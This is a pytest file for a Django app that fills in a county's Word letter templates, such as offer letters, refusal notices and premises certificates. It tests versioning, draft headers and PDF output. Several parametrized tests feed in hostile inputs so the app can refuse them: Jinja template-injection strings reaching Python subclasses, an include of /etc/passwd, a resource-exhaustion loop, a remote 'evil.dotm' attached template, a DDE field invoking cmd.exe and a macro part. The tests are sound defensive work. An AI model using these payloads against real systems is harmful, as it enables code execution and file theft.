"""Letters from the county's Word templates: what is refused, which day's words hold, what each letter says."""

import zipfile
from datetime import date
from io import BytesIO

import pypdfium2
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from projects.files.letters import catalogue, default_body, fill_in, sample_of
from projects.files.models import LetterTemplate
from projects.trace.errors import Refused
from tests.factories import MoveInFactory, OfferFactory, ProjectFactory

from . import way

KINDS = list(LetterTemplate.Kind.values)


def word(*lines):
    """A template with these lines."""
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def words_of(body):
    return [line.text for line in Document(BytesIO(body)).paragraphs if line.text]


def upload(body, name="模板.docx"):
    return SimpleUploadedFile(name, body)


@pytest.fixture
def leader(cast, client_of, today):
    today("2026-03-02")
    return client_of(cast.leader.user)


def errors(page):
    return " ".join(page.context["form"].errors.get("file", []))


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_shipped_fills_in_without_a_rest(kind):
    body, blocks = fill_in(kind, default_body(kind), sample_of(kind))
    assert (body[:2], [block["kind"] for block in blocks].count("title")) == (b"PK", 1)
    assert "{" not in "".join(words_of(body))


def test_every_kind_has_its_fields_and_its_template():
    assert list(catalogue()) == KINDS


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("致{{ 申报人 }}：", "“申报人”"),
        ("{{ 编号 }}{% if 领导批示 %}{{ 领导批示 }}{% endif %}", "“领导批示”"),
        ("{% for 项 in 补正事项 %}{{ 项.责任人 }}{% endfor %}", "“责任人”"),
        ("{{ 编号 ", "花括号"),
        ("{{ 编号.__class__.__mro__ }}", "不允许"),
        ("{{ ().__class__.__bases__[0].__subclasses__() }}", "不允许"),
        ("{% include '/etc/passwd' %}", "花括号"),
        ("{% for a in 补正事项 %}{% for b in '一' * 99999999 %}{% endfor %}{% endfor %}", "过于复杂"),
    ],
)
def test_a_template_that_cannot_be_filled_in_is_refused_with_its_reason(leader, line, said):
    page = leader.post("/settings/letters/supplement/", {"file": upload(word(line)), "effective_from": "2026-03-02"})
    assert (page.status_code, said in errors(page)) == (200, True), errors(page)
    assert not LetterTemplate.objects.exists()


def test_an_unknown_field_is_told_with_the_known_ones():
    with pytest.raises(Refused) as refusal:
        fill_in("premises", word("{{ 电话 }}"), sample_of("premises"))
    assert "编号、企业名称、项目名称、载体、地址、房间、面积" in str(refusal.value)


def outside(change):
    """A template whose parts were changed by hand."""
    document = Document(BytesIO(word("{{ 编号 }}")))
    change(document)
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def remote_template(document):
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    document.part.relate_to("http://example.cn/evil.dotm", kind, is_external=True)


def dde(document):
    run = document.add_paragraph().add_run()
    for piece in ("DDE", "AUTO c:\\\\cmd.exe"):
        run._r.append(parse_xml(f"<w:instrText {nsdecls('w')}>{piece}</w:instrText>"))


@pytest.mark.parametrize("change", [remote_template, dde])
def test_what_reaches_outside_is_refused(leader, change):
    page = leader.post("/settings/letters/offer/", {"file": upload(outside(change)), "effective_from": "2026-03-02"})
    assert "指向外部" in errors(page)


def macros():
    out = BytesIO(word("{{ 编号 }}"))
    with zipfile.ZipFile(out, "a") as folder:
        folder.writestr("word/vbaProject.bin", b"x")
    return out.getvalue()


@pytest.mark.parametrize(
    ("body", "name", "said"),
    [(macros(), "模板.docx", "宏"), (b"PK\x03\x04 broken", "模板.docx", "损坏"), (b"x" * 3_000_000, "模板.docx", "最多接收2.0"),
     (b"%PDF-1.4", "模板.pdf", "Word")],
)  # fmt: skip
def test_other_files_are_refused_as_elsewhere(leader, body, name, said):
    page = leader.post("/settings/letters/offer/", {"file": upload(body, name), "effective_from": "2026-03-02"})
    assert said in errors(page), errors(page)


def test_a_version_holds_from_its_day_and_older_letters_keep_theirs(cast, leader, client_of, today):
    offer = OfferFactory(project=ProjectFactory(county=cast.county), carrier=cast.incubator, issued_on=date(2026, 3, 2))
    later = OfferFactory(project=ProjectFactory(county=cast.county), carrier=cast.incubator, issued_on=date(2026, 3, 9))
    data = {"file": upload(word("新通知书 {{ 编号 }}")), "effective_from": "2026-03-09", "note": "新版"}
    preview = leader.post("/settings/letters/offer/", data, follow=True)
    assert "新通知书 RF2026-001" in preview.content.decode()
    again = leader.post("/settings/letters/offer/", data | {"file": upload(word("更正 {{ 编号 }}"))})
    assert again.status_code == 302  # it has not begun: put right
    today("2026-03-10")
    staff = client_of(cast.staff.user)
    assert words_of(staff.get(f"/admissions/offers/{later.pk}/letter.docx").content) == [f"更正 {later.number}"]
    assert "入孵通知书" in words_of(staff.get(f"/admissions/offers/{offer.pk}/letter.docx").content)
    past = client_of(cast.leader.user).post("/settings/letters/offer/", data | {"file": upload(word("{{ 编号 }}"))})
    assert past.status_code == 200
    assert [row.note for row in LetterTemplate.objects.all()] == ["新版"]


def test_the_word_file_of_a_letter_says_on_each_page_that_it_is_a_draft(cast, client_of):
    offer = OfferFactory(project=ProjectFactory(county=cast.county), carrier=cast.incubator)
    staff, address = client_of(cast.staff.user), f"/admissions/offers/{offer.pk}/letter."
    document = Document(BytesIO(staff.get(address + "docx").content))
    for section in document.sections:
        assert "非正式稿" in section.header.paragraphs[0].text
    pdf = pypdfium2.PdfDocument(staff.get(address + "pdf").content)
    assert "非正式稿" not in "".join(page.get_textpage().get_text_range() for page in pdf)


def test_a_letter_reads_the_same_as_pdf(cast, client_of):
    offer = OfferFactory(project=ProjectFactory(county=cast.county), carrier=cast.incubator, words="请带原件。")
    staff = client_of(cast.staff.user)
    pdf = pypdfium2.PdfDocument(staff.get(f"/admissions/offers/{offer.pk}/letter.pdf").content)
    printed = "".join(page.get_textpage().get_text_range() for page in pdf).replace("\r\n", "")
    for line in words_of(staff.get(f"/admissions/offers/{offer.pk}/letter.docx").content):
        assert line in printed
    assert "请带原件。" in printed
    assert staff.get(f"/admissions/offers/{offer.pk}/letter.odt").status_code == 404


def test_the_refusal_and_the_premises(cast, client_of, today):
    today("2026-03-02")
    way.set_rules(cast.incubator)
    applicant, desk = client_of(cast.applicant.user), client_of(cast.incubator_operator.user)
    application = way.submitted(applicant, cast.incubator)
    address = f"/applications/{application.number}/refusal.docx"
    assert applicant.get(address).status_code == 404
    item = way.open_item(application)
    desk.post(f"/todo/{item.pk}/check/", {"decision": "refuse", "reason": "不属于科技类项目。"})
    letter = words_of(applicant.get(address).content)
    assert (letter[0], "不属于科技类项目。" in letter, letter[-1]) == ("不予受理告知书", True, "2026年3月2日")
    stay = MoveInFactory(project=application.project, carrier=cast.incubator, verified_at=timezone.now(), area="120.50")
    certificate = " ".join(words_of(applicant.get(f"/admissions/stays/{stay.pk}/premises.docx").content))
    assert f"{stay.room}，面积120.5平方米" in certificate


def test_pages_of_the_templates(leader, assert_queries):
    assert "文书模板" in leader.get("/settings/letters/").content.decode()
    for kind in KINDS:
        assert (
            "<code>&#123;&#123; 编号 &#125;&#125;</code>" in leader.get(f"/settings/letters/{kind}/").content.decode()
        )
        assert leader.get(f"/settings/letters/{kind}/default/").status_code == 200
        assert leader.get(f"/settings/letters/{kind}/default/template.docx").content == default_body(kind)
    assert leader.get("/settings/letters/offer/default/sample.pdf").content[:5] == b"%PDF-"
    for wrong in ("x/", "offer/9/", "offer/²/", "offer/default/passwd", "offer/default/template.docm"):
        assert leader.get(f"/settings/letters/{wrong}").status_code == 404
